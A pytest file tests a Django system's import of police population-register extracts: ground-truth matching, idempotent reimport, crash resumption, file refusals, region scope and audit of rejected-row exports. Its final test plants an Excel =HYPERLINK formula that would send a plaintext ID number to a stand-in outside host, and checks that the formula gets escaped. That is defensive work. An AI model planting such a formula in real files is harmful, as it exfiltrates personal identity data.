"""The police import against the generator's ground truth, idempotency,
resumption after an interruption, file-level refusals and scope."""

import hashlib
from collections import Counter

import pytest
from django.core.management import call_command

from pims.events.models import Event, Spell
from pims.events.selectors import spell_violations
from pims.integration.models import ImportJob, StagedRow
from pims.integration.rejected import rejected_path
from pims.integration.services import ImportRefused, police_import
from pims.integration.sources.police import run as police_run
from pims.registry.checks.base import Severity
from pims.registry.checks.runner import check_households
from pims.registry.models import Birth, Household, Marriage, Person
from pims.registry.personal import citizen_id_index
from pims.synth.police_file import write_police_file
from pims.testing.identity import assert_uuids_whole


def register_snapshot() -> list[tuple]:
    """Everything a clean import determines, without ids or ciphertexts."""
    return sorted(
        Person.objects.values_list(
            "household__region_code",
            "household__number",
            "row",
            "name",
            "sex",
            "birth_date",
            "id_index",
            "id_masked",
            "relationship",
            "marital_status",
            "ethnicity",
            "education",
            "hukou_type",
            "registered_code",
            "residence_code",
            "responsible_code",
            "residence_status",
            "phone_index",
        )
    )


def checksum() -> str:
    digest = hashlib.sha256()
    for row in register_snapshot():
        digest.update(repr(row).encode())
    for row in sorted(Household.objects.values_list("region_code", "number", "hh_type", "address", "head__row")):
        digest.update(repr(row).encode())
    digest.update(repr((Marriage.objects.count(), Birth.objects.count(), Spell.objects.count())).encode())
    return digest.hexdigest()


def assert_matches_ground_truth(pop):
    assert Household.objects.count() == len(pop.households)
    assert Person.objects.count() == len(pop.persons)
    stored = {
        i: (s, b)
        for i, s, b in Person.objects.filter(id_index__isnull=False).values_list("id_index", "sex", "birth_date")
    }
    by_name = Counter(
        Person.objects.filter(id_index__isnull=True).values_list(
            "household__region_code", "household__number", "name", "sex", "birth_date"
        )
    )
    for p in pop.persons:
        if p.citizen_id:
            assert stored[citizen_id_index(p.citizen_id)] == (p.sex, p.birth_date)
        else:
            h = pop.households[p.household]
            assert by_name[(h.village_code, h.number, p.name, p.sex, p.birth_date)] == 1
    ids = {p.key for p in pop.persons if p.citizen_id}
    assert Marriage.objects.count() == sum(1 for h, w, _d, _k in pop.marriages if h in ids and w in ids)
    linked = sum(1 for _c, m, f, _o in pop.births if (m in ids) or (f in ids))
    assert Birth.objects.count() == linked
    assert Event.objects.filter(event_type="baseline", source="police").count() == len(pop.persons)
    assert Spell.objects.filter(end__isnull=True).count() == 2 * len(pop.persons)
    assert spell_violations() == []  # incl. the spells' copies of sex, birth date …
    assert_uuids_whole()  # households, persons, … each their own, on the COPY and INSERT … SELECT paths


def register_errors() -> Counter:
    ids = list(Household.objects.values_list("pk", flat=True))
    found: Counter[str] = Counter()
    for i in range(0, len(ids), 300):
        for v in check_households(ids[i : i + 300]):
            if v.severity == Severity.ERROR:
                found[v.rule_id] += 1
    return found


@pytest.mark.parametrize(("suffix", "encoding"), [(".csv", "utf-8-sig"), (".csv", "gb18030"), (".xlsx", "")])
def test_generated_file_imports_to_the_generators_ground_truth(regions, codes, population, tmp_path, suffix, encoding):
    _g, pop = population(per_village=60 if suffix == ".xlsx" else 120)
    path = tmp_path / f"extract{suffix}"
    write_police_file(pop, path, encoding=encoding or "utf-8")
    job = police_import(actor=None, path=path)
    assert (job.state, job.rows_rejected, job.rejected_file) == (ImportJob.State.DONE, 0, "")
    assert job.rows_loaded == job.rows_total == len(pop.persons)
    assert_matches_ground_truth(pop)
    assert register_errors() == Counter()
    assert StagedRow.objects.count() == 0  # staging holds nothing once done


def test_codes_instead_of_names_import_the_same(regions, codes, population, tmp_path):
    _g, pop = population(per_village=40)
    write_police_file(pop, tmp_path / "codes.csv", names=False)
    police_import(actor=None, path=tmp_path / "codes.csv")
    assert_matches_ground_truth(pop)


def test_importing_the_same_file_twice_changes_nothing(regions, codes, population, tmp_path):
    _g, pop = population(per_village=50)
    path = tmp_path / "extract.csv"
    write_police_file(pop, path)
    first = police_import(actor=None, path=path)
    before = checksum()
    events = Event.objects.count()
    # The same content: the finished job is reported, nothing is done.
    assert police_import(actor=None, path=path).pk == first.pk
    # Processed again all the same: every row is recognised as registered.
    again = police_import(actor=None, path=path, again=True)
    assert again.pk != first.pk
    assert (again.rows_loaded, again.rows_present, again.households_created) == (0, len(pop.persons), 0)
    assert checksum() == before and Event.objects.count() == events


class Interrupted(Exception):
    pass


def test_an_interrupted_import_resumes_to_the_same_register(regions, codes, population, tmp_path, monkeypatch):
    _g, pop = population(per_village=100)
    path = tmp_path / "extract.csv"
    write_police_file(pop, path)
    monkeypatch.setattr(police_run, "STAGE_CHUNK_ROWS", 37)
    monkeypatch.setattr(police_run, "LOAD_CHUNK_HOUSEHOLDS", 2)

    def crash_after(stage, n):
        calls = Counter()

        def progress(job, s, done, total):
            calls[s] += 1
            if s == stage and calls[s] > n:
                raise Interrupted

        return progress

    with pytest.raises(Interrupted):
        police_import(actor=None, path=path, progress=crash_after("stage", 3))
    job = ImportJob.objects.get()
    assert job.state == ImportJob.State.STAGING and 0 < job.staged_lines < len(pop.persons)
    with pytest.raises(Interrupted):
        police_import(actor=None, path=path, progress=crash_after("load", 4))
    job.refresh_from_db()
    assert job.state == ImportJob.State.LOADING and 0 < job.loaded_through < job.households_total
    done = police_import(actor=None, path=path)
    assert done.pk == job.pk and done.state == ImportJob.State.DONE
    assert done.rows_loaded == len(pop.persons) and done.rows_rejected == 0
    assert_matches_ground_truth(pop)


def test_file_level_problems_import_nothing(regions, codes, tmp_path):
    cases = {
        "utf16.csv": "公民身份号码,姓名\n".encode("utf-16"),
        "binary.csv": bytes(range(128, 256)) * 50,
        "empty.csv": b"",
        "old.xls": b"\xd0\xcf\x11\xe0" + b"\x00" * 100,
        "columns.csv": "公民身份号码,姓名,性别\n210124198001010011,张三,男\n".encode(),
        "broken.xlsx": b"PK\x03\x04" + b"\x00" * 50,
    }
    messages = {}
    for name, content in cases.items():
        (tmp_path / name).write_bytes(content)
        with pytest.raises(ImportRefused) as exc:
            police_import(actor=None, path=tmp_path / name)
        messages[name] = str(exc.value)
    assert "编码" in messages["utf16.csv"] and "编码" in messages["binary.csv"]
    assert "为空" in messages["empty.csv"]
    assert ".xls" in messages["old.xls"]
    assert "缺少必需的列" in messages["columns.csv"] and "出生日期" in messages["columns.csv"]
    assert "Excel" in messages["broken.xlsx"]
    assert Person.objects.count() == 0 and StagedRow.objects.count() == 0


def test_a_truncated_csv_keeps_the_good_rows_and_rejects_the_cut_one(regions, codes, population, tmp_path):
    _g, pop = population(per_village=30)
    path = tmp_path / "full.csv"
    write_police_file(pop, path)
    data = path.read_bytes()
    cut = tmp_path / "cut.csv"
    cut.write_bytes(data[: data.rindex(b"\n", 0, len(data) - 1) + 25])  # the last line loses its tail
    job = police_import(actor=None, path=cut)
    assert job.rows_rejected >= 1
    rejected = rejected_path(job).read_text(encoding="utf-8-sig")
    assert "P02" in rejected or "P01" in rejected
    assert job.rows_loaded + job.rows_rejected == job.rows_total


def test_a_mapping_file_lets_other_headers_in(regions, codes, population, tmp_path):
    _g, pop = population(per_village=30)
    path = tmp_path / "std.csv"
    write_police_file(pop, path)
    lines = path.read_text(encoding="utf-8-sig").splitlines(keepends=True)
    ours = lines[0].rstrip("\n").split(",")
    theirs = [f"COL{i}" for i in range(len(ours))]
    (tmp_path / "other.csv").write_text(",".join(theirs) + "\n" + "".join(lines[1:]), encoding="utf-8")
    with pytest.raises(ImportRefused):
        police_import(actor=None, path=tmp_path / "other.csv")
    job = police_import(actor=None, path=tmp_path / "other.csv", mapping=dict(zip(theirs, ours, strict=True)))
    assert job.rows_loaded == len(pop.persons)


def test_rows_outside_the_importers_region_are_rejected(regions, codes, personas, population, tmp_path):
    _g, pop = population(per_village=30)
    path = tmp_path / "extract.csv"
    write_police_file(pop, path)
    job = police_import(actor=personas["operator"], path=path)  # township A only
    outside = sum(1 for p in pop.persons if pop.households[p.household].village_code.startswith("210124102"))
    assert outside and job.rows_rejected == outside
    assert not Person.objects.filter(household__region_code__startswith="210124102").exists()
    rejected = rejected_path(job).read_text(encoding="utf-8-sig")
    assert rejected.count("[P09]") == outside


def test_clerks_may_not_import(regions, codes, personas, tmp_path):
    with pytest.raises(ImportRefused):
        police_import(actor=personas["clerk"], path=tmp_path / "whatever.csv")


def test_import_police_command_reports_and_refuses_clearly(regions, codes, population, tmp_path):
    from io import StringIO

    from django.core.management.base import CommandError

    _g, pop = population(per_village=20)
    path = tmp_path / "extract.csv"
    write_police_file(pop, path)
    out, err = StringIO(), StringIO()
    call_command("import_police", str(path), stdout=out, stderr=err)
    assert f"{len(pop.persons)} persons added" in out.getvalue()
    (tmp_path / "bad.csv").write_bytes(b"\xff\xfe\x00garbage" * 10)
    with pytest.raises(CommandError, match="未导入"):
        call_command("import_police", str(tmp_path / "bad.csv"), stdout=out, stderr=err)


def test_rejected_rows_stay_in_protected_storage_and_leave_only_on_request(
    regions, codes, population, tmp_path, settings
):
    """The rejected rows repeat plaintext ID numbers: never written beside the
    source; the command line copies them only to a path it is given, with a
    warning and an export entry in the audit log."""
    import stat
    from io import StringIO

    from pims.audit.models import AuditEntry

    _g, pop = population(per_village=20)
    source_dir = tmp_path / "incoming"
    source_dir.mkdir()
    good = tmp_path / "extract.csv"
    write_police_file(pop, good)
    text = good.read_text(encoding="utf-8-sig").splitlines()
    path = source_dir / "bad.csv"
    path.write_text(
        "\n".join([text[0], text[1].replace(",男,", ",X,", 1).replace(",女,", ",X,", 1), *text[2:]]) + "\n",
        encoding="utf-8",
    )
    out = StringIO()
    call_command("import_police", str(path), stdout=out, stderr=StringIO())
    job = ImportJob.objects.get()
    assert job.rows_rejected >= 1 and "protected storage" in out.getvalue()  # the row (and its household: P08)
    stored = rejected_path(job)
    assert stored.is_relative_to(settings.MEDIA_ROOT) and stat.S_IMODE(stored.stat().st_mode) == 0o600
    assert [p.name for p in source_dir.iterdir()] == ["bad.csv"]  # nothing beside the source
    assert not AuditEntry.objects.filter(action="export").exists()

    # The finished job is reported again, and its rejected rows copied where asked.
    wanted = tmp_path / "for-the-clerk.csv"
    err = StringIO()
    call_command("import_police", str(path), "--rejected", str(wanted), stdout=StringIO(), stderr=err)
    assert ImportJob.objects.count() == 1
    assert wanted.read_bytes() == stored.read_bytes() and stat.S_IMODE(wanted.stat().st_mode) == 0o600
    assert "警告" in err.getvalue() and "公民身份号码" in err.getvalue()
    entry = AuditEntry.objects.get(action="export")
    assert (entry.object_id, entry.detail["to"], entry.actor_username) == (
        str(job.pk),
        "file:for-the-clerk.csv",
        "system:import_police",
    )


def test_the_rejected_rows_file_carries_no_formula_and_reads_back_as_typed(regions, codes, population, tmp_path):
    """A cell that Excel would run (=HYPERLINK sending the plaintext ID in
    column A to an outside host) is escaped in the rejected-rows file; the
    corrected file imports its values as typed (issue 14 item 4)."""
    import csv

    from pims.integration.format import HEADERS

    _g, pop = population(per_village=5)
    path = tmp_path / "extract.csv"
    write_police_file(pop, path)
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    evil = '=HYPERLINK("http://outside.example/?"&A2,"点击")'
    rows = list(csv.reader(lines))
    rows[1][HEADERS.index("姓名")] = evil
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)
    job = police_import(actor=None, path=path)
    assert job.rows_rejected >= 1
    with open(rejected_path(job), encoding="utf-8-sig", newline="") as fh:
        rejected = list(csv.reader(fh))
    written = [cell for row in rejected for cell in row]
    assert "'" + evil in written and evil not in written
    assert not [c for c in written if c and c[0] in "=@\t\r"]

    again = tmp_path / "corrected.csv"
    again.write_bytes(rejected_path(job).read_bytes())
    second = police_import(actor=None, path=again)
    with open(rejected_path(second), encoding="utf-8-sig", newline="") as fh:
        header, *rows = list(csv.reader(fh))
    assert header.count("错误说明") == 1
    assert "'" + evil in [cell for row in rows for cell in row]  # read as typed, escaped again once
